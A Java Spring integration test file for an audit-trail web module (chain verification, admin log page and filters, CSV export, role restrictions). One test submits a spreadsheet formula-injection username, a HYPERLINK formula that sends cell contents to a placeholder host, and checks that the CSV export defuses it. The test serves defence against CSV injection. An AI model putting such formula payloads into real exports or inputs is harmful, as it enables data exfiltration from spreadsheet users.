// SPDX-License-Identifier: AGPL-3.0-or-later
package id.netra.audit.web;

import static id.netra.testing.TestUsers.ADMIN;
import static id.netra.testing.TestUsers.ANALYST;
import static id.netra.testing.TestUsers.SUPERVISOR;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.greaterThanOrEqualTo;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestBuilders.formLogin;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.setup.SecurityMockMvcConfigurers.springSecurity;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import id.netra.shared.AuditEvent;
import id.netra.audit.chain.AuditTrail;
import id.netra.shared.TimeConfiguration;
import id.netra.testing.NetraIntegrationTest;
import id.netra.testing.TestUsers;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.RequestBuilder;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.web.context.WebApplicationContext;

/** The audit trail over HTTP: the verify API, the admin page and export, and sign-ins landing on the trail. */
@NetraIntegrationTest
class AuditWebIntegrationTests {

    @Autowired
    WebApplicationContext context;

    @Autowired
    AuditTrail trail;

    @Autowired
    JdbcClient jdbc;

    MockMvc mvc;

    @BeforeEach
    void setUp() {
        mvc = MockMvcBuilders.webAppContextSetup(context).apply(springSecurity()).build();
    }

    @Test
    void verify_asAdmin_reportsAnIntactChainWithItsLength() throws Exception {
        trail.record(new AuditEvent(uniqueAction(), null, null, "system", null));
        long count = jdbc.sql("select count(*) from audit.entry").query(Long.class).single();

        mvc.perform(get("/api/v1/admin/audit/verify").with(ADMIN.basic()))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.intact").value(true))
                .andExpect(jsonPath("$.entries").value(greaterThanOrEqualTo((int) count)))
                .andExpect(jsonPath("$.headHash").isString())
                .andExpect(jsonPath("$.firstBrokenSequence").doesNotExist());
    }

    @Test
    void verify_asAnotherRole_isForbiddenAsProblemJson() throws Exception {
        mvc.perform(get("/api/v1/admin/audit/verify").with(ANALYST.basic()))
                .andExpect(status().isForbidden())
                .andExpect(content().contentType(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(jsonPath("$.status").value(403));
    }

    @Test
    void formSignInAndSignOut_areAudited() throws Exception {
        long before = lastSequence();
        MockHttpSession session = (MockHttpSession) mvc.perform(formLogin("/login").user("supervisor")
                .password(TestUsers.demoPassword())).andReturn().getRequest().getSession(false);
        mvc.perform(post("/logout").session(session).with(csrf()));

        assertThat(actionsSince(before, "supervisor"))
                .containsSubsequence("identity.signed-in", "identity.signed-out");
    }

    @Test
    void failedSignIn_isAuditedOnceWithTheAttemptedName() throws Exception {
        String attempted = "intruder-" + UUID.randomUUID().toString().substring(0, 8);

        mvc.perform(get("/api/v1/me").with(TestUsers.named(attempted).basic("guess")))
                .andExpect(status().isUnauthorized());

        List<String> details = jdbc.sql("select details from audit.entry where action = 'identity.sign-in-failed' "
                + "and subject_id = ?").param(attempted).query(String.class).list();
        assertThat(details).singleElement().asString().contains("BadCredentialsException");
    }

    @Test
    void logPage_asAdmin_listsAndFiltersEntries() throws Exception {
        String actor = "actor-" + UUID.randomUUID().toString().substring(0, 8);
        String action = uniqueAction();
        trail.record(new AuditEvent(action, "case", "c-1", actor, "{\"state\":\"FORWARDED\"}"));

        String filtered = page(get("/admin/audit").param("actor", actor).with(ADMIN.basic()));
        assertThat(filtered).contains("Log audit", action, "Perkara c-1", "1 entri")
                .doesNotContain("title=\"identity.signed-in\"");

        assertThat(page(get("/admin/audit").param("action", action).with(ADMIN.basic())))
                .contains("1 entri");
        assertThat(page(get("/admin/audit").param("action", "test.").with(ADMIN.basic())))
                .contains(action);
    }

    @Test
    void logPage_filtersByDateRangeActorAndObject_withATotalAndReadableRows() throws Exception {
        String actor = "Petugas-" + UUID.randomUUID().toString().substring(0, 8);
        String caseId = "c-" + UUID.randomUUID().toString().substring(0, 8);
        trail.record(new AuditEvent("case.forward", "case", caseId, actor,
                "{\"from\":\"RECEIVED\",\"to\":\"FORWARDED\"}"));
        trail.record(new AuditEvent("report.status-changed", "report", "7d0e4b1c-0000-4000-8000-000000000001", actor,
                "IN_REVIEW -> FORWARDED"));
        trail.record(new AuditEvent("identity.account.created", "user", "someone", "admin",
                "{\"role\":\"ANALYST\"}"));
        String today = LocalDate.now(TimeConfiguration.WIB).toString();
        String tomorrow = LocalDate.now(TimeConfiguration.WIB).plusDays(1).toString();

        // the actor is found by part of the name, whatever its case; today's range holds both of its entries
        String mine = page(get("/admin/audit").param("actor", actor.substring(8).toUpperCase(java.util.Locale.ROOT))
                .param("from", today).param("to", today).with(ADMIN.basic()));
        assertThat(mine).contains("2 entri", "Perkara diteruskan ke Satgas/BKN", "Status laporan berubah",
                        "href=\"/cases/" + caseId + "\"",
                        "href=\"/intake/reports/7d0e4b1c-0000-4000-8000-000000000001\"",
                        "Dari: Diterima", "Menjadi: Diteruskan", "Sedang ditelaah")
                .doesNotContain("RECEIVED", "IN_REVIEW", "{&quot;");
        assertThat(page(get("/admin/audit").param("actor", actor).param("from", tomorrow)
                .with(ADMIN.basic()))).contains("0 entri");

        // one object: its type and number
        assertThat(page(get("/admin/audit").param("type", "case").param("object", caseId)
                .with(ADMIN.basic()))).contains("1 entri", "Perkara " + caseId);
        assertThat(page(get("/admin/audit").param("type", "report").param("object", caseId)
                .with(ADMIN.basic()))).contains("0 entri");

        // a user's page is linked from entries about that user
        assertThat(page(get("/admin/audit").param("type", "user").param("object", "someone")
                .with(ADMIN.basic()))).contains("Akun dibuat", "href=\"/admin/users/someone\"");

        // paging keeps the filter in its links, and the export takes the same filter
        String csv = mvc.perform(get("/admin/audit/export").param("actor", actor).param("from", today)
                        .param("to", today).param("type", "case").with(ADMIN.basic()))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(csv.split("\r\n")).hasSize(2);
        assertThat(csv).contains("case.forward", "Perkara diteruskan ke Satgas/BKN", caseId);
    }

    @Test
    void logPage_unreadableOrReversedDates_sayWhatIsWrongInBahasa_neverAnError() throws Exception {
        String unreadable = page(get("/admin/audit").param("from", "31-13-2024").param("to", "kemarin")
                .param("page", "x").with(ADMIN.basic()));
        assertThat(unreadable).contains("Tanggal &quot;31-13-2024&quot; tidak dapat dibaca",
                "Tanggal &quot;kemarin&quot; tidak dapat dibaca", "aria-invalid=\"true\"");

        String reversed = page(get("/admin/audit").param("from", "2024-11-27").param("to", "2024-11-01")
                .with(ADMIN.basic()));
        assertThat(reversed).contains("Tanggal akhir (2024-11-01) lebih awal daripada tanggal awal (2024-11-27)");

        // a day written the Indonesian way is read
        assertThat(page(get("/admin/audit").param("from", "27/11/2024").with(ADMIN.basic())))
                .doesNotContain("tidak dapat dibaca");

        mvc.perform(get("/admin/audit/export").param("from", "bukan-tanggal").with(ADMIN.basic()))
                .andExpect(status().is3xxRedirection());
    }

    @Test
    void logPage_asAnotherRole_isForbidden() throws Exception {
        mvc.perform(get("/admin/audit").with(SUPERVISOR.basic())).andExpect(status().isForbidden());
    }

    @Test
    void verifyFragment_reportsTheChainForHtmx() throws Exception {
        assertThat(page(get("/admin/audit/verify").with(ADMIN.basic())))
                .contains("id=\"verification\"", "Rantai utuh").doesNotContain("<html");
    }

    @Test
    void anchorApi_writesTheHead_andVerifyReportsIt() throws Exception {
        String anchored = mvc.perform(post("/api/v1/admin/audit/anchor").with(ADMIN.basic()))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.sequence").isNumber())
                .andExpect(jsonPath("$.mac").isString())
                .andReturn().getResponse().getContentAsString();
        long sequence = Long.parseLong(anchored.replaceAll(".*\"sequence\":(\\d+).*", "$1"));

        mvc.perform(get("/api/v1/admin/audit/verify").with(ADMIN.basic()))
                .andExpect(jsonPath("$.intact").value(true))
                .andExpect(jsonPath("$.anchoredSequence").value(sequence));
        assertThat(page(get("/admin/audit/verify").with(ADMIN.basic())))
                .contains("Cocok dengan jangkar terakhir di luar basis data: entri #" + sequence);
        mvc.perform(post("/api/v1/admin/audit/anchor").with(ANALYST.basic()))
                .andExpect(status().isForbidden());
    }

    @Test
    void csvExport_containsTheFilteredEntries_andIsItselfAudited() throws Exception {
        String actor = "csv-" + UUID.randomUUID().toString().substring(0, 8);
        String action = uniqueAction();
        trail.record(new AuditEvent(action, "report", "r-9", actor, "a \"quoted\", detail"));

        MockHttpServletResponse response = mvc.perform(get("/admin/audit/export").param("actor", actor)
                        .with(ADMIN.basic()))
                .andExpect(status().isOk())
                .andExpect(content().contentType("text/csv;charset=UTF-8"))
                .andReturn().getResponse();

        String[] lines = response.getContentAsString().split("\r\n");
        assertThat(lines[0]).isEqualTo("sequence_number,occurred_at,action,action_label,subject_type,subject_id,actor,"
                + "details,previous_hash,hash");
        assertThat(lines).hasSize(2);
        assertThat(lines[1]).contains(action, "report,r-9," + actor, "\"a \"\"quoted\"\", detail\"");
        assertThat(jdbc.sql("select count(*) from audit.entry where action = 'audit.exported' and actor = 'admin' "
                + "and details like ?").param("%actor=" + actor + "%").query(Long.class).single()).isEqualTo(1);
    }

    @Test
    void csvExport_defusesAFormulaTypedAsUsernameAtSignIn() throws Exception {
        String typed = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")-" + UUID.randomUUID().toString()
                .substring(0, 6);
        mvc.perform(formLogin("/login").user(typed).password("salah"));

        String csv = mvc.perform(get("/admin/audit/export").param("action", "identity.sign-in-failed")
                        .with(ADMIN.basic()))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();

        String row = csv.lines().filter(line -> line.contains(typed.substring(typed.length() - 6))).findFirst()
                .orElseThrow();
        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(").doesNotContain(",=HYPERLINK(");
    }

    @Test
    void csvCells_areDefusedReversibly() {
        assertThat(AuditLogController.cell("=1+1")).isEqualTo("'=1+1");
        assertThat(AuditLogController.cell("'=1+1")).isEqualTo("''=1+1");
        assertThat(AuditLogController.cell("admin")).isEqualTo("admin");
        assertThat(AuditLogController.cell(null)).isNull();
    }

    @Test
    void menu_showsTheAuditLogToAdminsOnly() throws Exception {
        assertThat(page(get("/").with(ADMIN.basic()))).contains("href=\"/admin/audit\"");
        assertThat(page(get("/").with(ANALYST.basic()))).doesNotContain("href=\"/admin/audit\"");
        assertThat(page(get("/"))).doesNotContain("href=\"/admin/audit\"");
    }

    private String page(RequestBuilder request) throws Exception {
        return mvc.perform(request).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
    }

    private long lastSequence() {
        return jdbc.sql("select coalesce(max(sequence_number), 0) from audit.entry").query(Long.class).single();
    }

    private List<String> actionsSince(long sequence, String actor) {
        return jdbc.sql("select action from audit.entry where sequence_number > ? and actor = ? "
                + "order by sequence_number").param(sequence).param(actor).query(String.class).list();
    }

    private static String uniqueAction() {
        return "test." + UUID.randomUUID().toString().substring(0, 8);
    }
}
